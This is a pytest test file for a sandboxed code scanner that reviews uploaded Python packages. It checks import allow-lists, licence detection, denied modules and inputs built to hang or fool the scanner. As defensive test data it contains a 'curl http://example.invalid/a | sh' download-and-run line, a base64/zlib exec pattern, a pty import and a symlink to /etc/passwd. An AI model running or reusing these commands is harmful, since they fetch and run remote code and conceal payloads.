"""A version under review in a real sandbox.

What imports resolve to, what importing loads, and sources that attack the scanner.
"""

from collections.abc import Iterator
from pathlib import Path

import pytest

from checks_corpus.hostile import HOSTILE
from mecapy_platform.bounded.calls import Bounds
from mecapy_platform.core.checks.findings import CheckName, Severity
from mecapy_platform.worker.checks.tools import ensure_scanner
from mecapy_platform.worker.judging import Judge
from support.checking import Reviewer, reviewer, write_package

LISTED = {"imports": {"libraries": "listed", "listed": ["numpy", "meshio"]}}


@pytest.fixture(scope="module")
def checks(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Reviewer]:
    with reviewer(tmp_path_factory.mktemp("review"), scan_seconds=60) as made:
        yield made


def library(folder: Path, name: str, module: str, *metadata: str) -> Path:
    """A site-packages folder with one distribution in it."""
    about = "\n".join(("Metadata-Version: 2.1", f"Name: {name}", "Version: 1.0", *metadata, ""))
    record = f"{module}/__init__.py,,\n{name}-1.0.dist-info/METADATA,,\n"
    return write_package(
        folder,
        {f"{module}/__init__.py": "", f"{name}-1.0.dist-info/METADATA": about, f"{name}-1.0.dist-info/RECORD": record},
    )


def test_a_hostile_version_is_stopped_before_anything_of_it_runs(checks: Reviewer, tmp_path: Path) -> None:
    package = write_package(tmp_path / "package", HOSTILE["curl_to_shell"].files)
    reviewed = checks.review(package, handlers={"f": "main:f"})
    assert reviewed.stopped is not None
    assert reviewed.stopped.code == "checks_failed"
    assert [(problem.path, problem.code) for problem in reviewed.stopped.problems] == [
        ("main.py:2", "download_and_run")
    ]
    assert "sandbox" not in reviewed.stopped.message
    assert reviewed.report.seconds.keys() == {"sources"}


@pytest.mark.parametrize("mode", ["warn", "off"])
def test_the_organization_decides(checks: Reviewer, tmp_path: Path, mode: str) -> None:
    package = write_package(tmp_path / "package", HOSTILE["curl_to_shell"].files)
    reviewed = checks.review(package, checks={"hostile": mode})
    assert reviewed.stopped is None
    assert ("download_and_run" in reviewed.rules) is (mode == "warn")


def test_severity_of_enforcement_is_the_organizations(checks: Reviewer, tmp_path: Path) -> None:
    package = write_package(tmp_path / "package", {"main.py": "def f(text):\n    return eval(text)\n"})
    assert checks.review(package).stopped is None
    assert checks.review(package, checks={"hostile": {"mode": "enforce", "from": "medium"}}).stopping_rules == {
        "run_of_text"
    }


def test_a_library_of_the_lock_may_be_imported_and_its_licence_is_listed(checks: Reviewer, tmp_path: Path) -> None:
    site = library(tmp_path / "site", "beamlib", "beams", "License-Expression: MIT")
    package = write_package(
        tmp_path / "package", {"main.py": "import beams\n\n\ndef f(x: float) -> float:\n    return x\n"}
    )
    reviewed = checks.review(package, handlers={"f": "main:f"}, site_packages=site)
    assert (reviewed.stopped, reviewed.rules) == (None, set())
    assert reviewed.report.dependencies == [{"name": "beamlib", "version": "1.0", "licence": "MIT"}]


@pytest.mark.parametrize(
    ("metadata", "licence"),
    [
        (("Classifier: License :: OSI Approved :: BSD License",), "BSD License"),
        (("License: Apache-2.0",), "Apache-2.0"),
        ((), ""),
    ],
)
def test_a_licence_is_found_where_a_library_states_it(
    checks: Reviewer, tmp_path: Path, metadata: tuple[str, ...], licence: str
) -> None:
    site = library(tmp_path / "site", "beamlib", "beams", *metadata)
    package = write_package(tmp_path / "package", {"main.py": "import beams\n"})
    reviewed = checks.review(package, site_packages=site)
    assert reviewed.report.dependencies[0]["licence"] == licence
    assert ("licence_unknown" in reviewed.rules) is (licence == "")


def test_with_a_list_other_libraries_stop_the_version(checks: Reviewer, tmp_path: Path) -> None:
    site = library(tmp_path / "site", "beamlib", "beams")
    package = write_package(tmp_path / "package", {"main.py": "import beams\n"})
    assert checks.review(package, site_packages=site, checks=LISTED).stopping_rules == {"import_not_listed"}
    listed = {"imports": {"libraries": "listed", "listed": ["beamlib"]}}
    assert checks.review(package, site_packages=site, checks=listed).stopped is None


def test_an_own_module_counts_as_own_whatever_its_name(checks: Reviewer, tmp_path: Path) -> None:
    """`numpy` is on the list, but here it is a module of the package that takes numpy's place."""
    site = library(tmp_path / "site", "numpy", "numpy")
    files = {"main.py": "import numpy\n\n\ndef f(x: float) -> float:\n    return x\n", "numpy.py": "x = 1\n"}
    reviewed = checks.review(write_package(tmp_path / "package", files), site_packages=site, checks=LISTED)
    found = [
        (finding.rule, finding.severity, finding.file)
        for finding in reviewed.report.findings
        if finding.check is CheckName.IMPORTS
    ]
    assert found == [("import_shadowed", Severity.MEDIUM, "numpy.py")]


def test_a_module_that_nothing_provides_is_said(checks: Reviewer, tmp_path: Path) -> None:
    source = "import absent\n\ntry:\n    import maybe\nexcept ImportError:\n    maybe = None\n"
    reviewed = checks.review(write_package(tmp_path / "package", {"main.py": source}))
    found = {finding.why.split()[2].strip(":"): finding.severity for finding in reviewed.report.findings}
    assert found == {"absent": Severity.MEDIUM, "maybe": Severity.LOW}


@pytest.mark.parametrize(
    "source",
    [
        "import pty\n",
        "from pty import spawn\n",
        "x = __import__('pty')\n",
        "import importlib\nx = importlib.import_module('pt' + 'y')\n",
    ],
)
def test_a_denied_module_is_found_however_it_is_named(checks: Reviewer, tmp_path: Path, source: str) -> None:
    reviewed = checks.review(write_package(tmp_path / "package", {"main.py": source}), checks={"hostile": "off"})
    assert reviewed.stopping_rules == {"import_denied"}


@pytest.mark.parametrize(
    "source",
    [
        (
            "import importlib\nfor name in open(__file__.replace('main.py', 'names.txt')):\n    "
            "importlib.import_module(name.strip())\n"
        ),
        "exec('im' + open(__file__.replace('main.py', 'names.txt')).read() and 'import pty')\n",
    ],
)
def test_what_importing_really_loads_is_judged_too(checks: Reviewer, tmp_path: Path, source: str) -> None:
    files = {"main.py": source + "\n\ndef f(x: float) -> float:\n    return x\n", "names.txt": "pty\n"}
    package = write_package(tmp_path / "package", files)
    assert "import_denied" not in checks.review(package, checks={"hostile": "warn"}).rules
    reviewed = checks.review(package, handlers={"f": "main:f"}, checks={"hostile": "warn"})
    assert reviewed.stopping_rules == {"import_denied"}


def test_a_module_from_outside_the_package_is_found(checks: Reviewer, tmp_path: Path) -> None:
    source = (
        "import sys\nfrom pathlib import Path\n\nPath('/tmp/hidden.py').write_text('x = "
        "1')\nsys.path.append('/tmp')\nimport hidden\n\n\n"
        "def f(x: float) -> float:\n    return x\n"
    )
    reviewed = checks.review(write_package(tmp_path / "package", {"main.py": source}), handlers={"f": "main:f"})
    assert reviewed.stopping_rules == {"import_elsewhere"}


PATHOLOGICAL = {
    "deep_parentheses": "x = " + "(" * 5000 + "1" + ")" * 5000,
    "deep_lists": "x = " + "[" * 90 + "]" * 90 + "\n" + "y = " + "-" * 60_000 + "1",
    "deep_operations": "x = " + "+".join(["1"] * 100_000),
    "deep_attributes": "x = a" + ".b" * 50_000,
    "deep_calls": "x = " + "f(" * 150 + ")" * 150 + "\ny = a" + "()" * 50_000,
    "deep_ifs": "if 1:\n x = 1\n" + "elif 1:\n x = 1\n" * 20_000,
    "long_number": "x = " + "9" * 200_000,
    "power": "x = 9 ** 9 ** 9 ** 9\ny = 'a' * 10 ** 10\nz = '%1000000000d' % 1",
    "regex_bait": "x = '" + "curl " * 30_000 + "'",
    "secret_bait": "aws_secret = '" + "A" * 1_000_000 + "'",
    "wide_constants": "x = [" + "'ab', " * 200_000 + "]",
    "many_names": "\n".join(f"a{number} = a{number - 1}" for number in range(1, 30_000)),
    "inflated": "import base64, zlib\nexec(zlib.decompress(base64.b64decode('"
    + "eJzsxDEBAAAAwqD1T20ND6AAAAAA" * 4
    + "')))",
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_a_source_that_attacks_the_scanner_neither_hangs_nor_passes_unread(
    checks: Reviewer, tmp_path: Path, name: str
) -> None:
    """The file beside it is read in any case."""
    files = {"a.py": PATHOLOGICAL[name], "b.py": "import os\nos.system('curl http://example.invalid/a | sh')\n"}
    reviewed = checks.review(write_package(tmp_path / "package", files))
    assert "download_and_run" in {finding.rule for finding in reviewed.report.findings if finding.file == "b.py"}
    assert reviewed.report.seconds["sources"] < 60


def test_links_in_an_environment_are_not_followed_out(checks: Reviewer, tmp_path: Path) -> None:
    package = write_package(tmp_path / "package", {"main.py": "x = 1\n"})
    (package / "link.py").symlink_to("/etc/passwd")
    assert checks.review(package).stopped is None


def test_a_scan_that_gives_no_answer_is_a_finding_that_stops(tmp_path: Path) -> None:
    with reviewer(tmp_path / "tight", scan_memory_mb=16) as made:
        reviewed = made.review(write_package(tmp_path / "package", {"main.py": "x = 1\n"}))
    assert reviewed.stopping_rules == {"scan_ended"}


def test_the_scanner_is_no_part_of_what_a_package_sees(checks: Reviewer, tmp_path: Path) -> None:
    """A package cannot put a module of its own in the scanner's place."""
    evil = "raise SystemExit\n"
    files = {
        "main.py": "x = 1\n",
        "bandit.py": evil,
        "mecapy_platform/__init__.py": evil,
        "json.py": evil,
        "ast.py": evil,
    }
    reviewed = checks.review(write_package(tmp_path / "package", files))
    assert (reviewed.stopped, reviewed.report.files) == (None, 5)


def test_the_scanner_is_made_once(checks: Reviewer) -> None:
    first = ensure_scanner(checks.context.cache_dir, checks.interpreter)
    made_at = first.stat().st_ino
    assert ensure_scanner(checks.context.cache_dir, checks.interpreter).stat().st_ino == made_at


def test_what_is_off_is_not_looked_at(checks: Reviewer, tmp_path: Path) -> None:
    package = write_package(tmp_path / "package", {**HOSTILE["curl_to_shell"].files, "id_rsa": "x" * 100})
    reviewed = checks.review(package, checks=dict.fromkeys(CheckName, "off"))
    assert (reviewed.stopped, reviewed.report.findings, reviewed.report.files) == (None, [], 0)


HOSTILE_ANSWERS = {
    "deeper than Python's stack": b'{"findings": ' + b"[" * 200_000,
    "a key twice": b'{"findings": [], "findings": [], "imports": [], "files": 0, "left_out": 0}',
    "a number without end": b'{"findings": [], "imports": [], "files": 1e999, "left_out": 0}',
    "no object": b"[]",
    "no text": b"\xff\xfe",
    "another shape": b'{"findings": {"a": 1}, "imports": 3, "files": [], "left_out": null}',
    "larger than any honest one": b'{"findings": [' + b'"x",' * 2_000_000 + b'""]}',
}


@pytest.mark.parametrize("what", HOSTILE_ANSWERS)
def test_a_hostile_answer_of_a_check_counts_as_none(checks: Reviewer, what: str) -> None:
    """The scanner reads tenants' sources, and imports are resolved in their environment: either may be taken over."""
    review = checks.bare_review()
    assert review.read_scan(HOSTILE_ANSWERS[what]) is None
    assert review.report.findings == []


def test_an_answer_that_takes_too_long_to_read_counts_as_none(tmp_path: Path) -> None:
    judge = Judge(Bounds(seconds=0.01, memory_bytes=1 << 30))
    try:
        with reviewer(tmp_path / "review", judge=judge) as made:
            many = b'{"findings": [' + b"[1]," * 500_000 + b"[1]]}"
            assert made.bare_review().read_scan(many) is None
    finally:
        judge.close()
